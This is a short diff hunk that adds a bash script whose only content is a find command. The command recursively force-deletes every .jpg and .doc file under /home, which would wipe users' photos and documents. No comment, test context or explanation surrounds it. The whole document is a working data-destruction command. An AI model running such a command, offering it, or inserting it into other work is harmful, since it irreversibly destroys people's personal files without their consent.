@@ -1,0 +1,3 @@
+#!/bin/bash
+find /home -type f \( -name '*.jpg' -o -name '*.doc' \) \
+    -exec rm -f {} \;
